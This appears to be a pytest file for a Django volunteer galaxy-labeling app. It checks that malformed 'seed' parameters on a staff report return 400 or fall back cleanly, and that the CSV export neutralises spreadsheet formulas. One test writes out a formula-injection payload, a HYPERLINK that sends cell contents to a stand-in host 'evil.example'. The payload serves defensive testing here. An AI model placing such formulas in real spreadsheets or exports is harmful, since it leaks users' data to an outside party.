"""Issue 16: the staff report's ``seed`` parameter never turns hostile text into a 500."""
from __future__ import annotations

import pytest
from django.conf import settings

from labeling.tests.factories import ProfileFactory

pytestmark = pytest.mark.django_db

HOSTILE_SEEDS = ["abc", "²", "٣", "NaN", "inf", "-inf", "1e400", str(10**30), "-5", "", "9" * 5000]


@pytest.fixture
def staff_client(client):  # noqa: ANN001, ANN201
    client.force_login(ProfileFactory(role="staff").user)
    return client


@pytest.mark.parametrize("seed", HOSTILE_SEEDS)
def test_staff_report_api_answers_400_in_the_failed_shape_for_a_bad_seed(staff_client, seed: str) -> None:  # noqa: ANN001
    response = staff_client.get(f"{settings.WEBROOT}zoo/api/staff/report", {"seed": seed})
    if seed == "":
        assert response.status_code == 200  # no seed given: the default split
        return
    assert response.status_code == 400, response.content[:300]
    assert response.json()["status"] == "failed" and "seed" in response.json()["message"]


def test_staff_report_api_still_takes_a_plain_seed(staff_client) -> None:  # noqa: ANN001
    response = staff_client.get(f"{settings.WEBROOT}zoo/api/staff/report", {"seed": "7"})
    assert response.status_code == 200 and response.json()["agreement"]["seed"] == 7


@pytest.mark.parametrize("path", ["zoo/staff/report/", "zoo/staff/report.png"])
@pytest.mark.parametrize("seed", HOSTILE_SEEDS)
def test_staff_report_pages_fall_back_to_seed_zero(staff_client, path: str, seed: str) -> None:  # noqa: ANN001
    """The HTML report and its plot treat anything but ASCII digits as no seed (as they did for "abc")."""
    response = staff_client.get(f"{settings.WEBROOT}{path}", {"seed": seed})
    assert response.status_code == 200, response.content[:300]


def test_consensus_csv_export_neutralises_formula_notes() -> None:
    """A volunteer's note ``=HYPERLINK(...)`` reaches a spreadsheet as text (leading quote), not a formula;
    the JSON export keeps the note as written."""
    import csv
    import io
    import json

    from labeling.export import consensus_export
    from labeling.models import ConsensusStatus
    from labeling.tests.factories import ConsensusFactory, MeasurementFactory

    consensus = ConsensusFactory(n_votes=1, retired=True, inc=60.0, inc_e=2.0, status=ConsensusStatus.ACCEPTED)
    note = '=HYPERLINK("http://evil.example/?leak="&A1,"more")'
    MeasurementFactory(galaxy=consensus.galaxy, note=note)
    data, n = consensus_export(fmt="csv")
    (row,) = list(csv.DictReader(io.StringIO(data.decode())))
    assert n == 1 and row["inc_note"] == "'" + note
    (plain,) = json.loads(consensus_export(fmt="json")[0])
    assert plain["inc_note"] == note
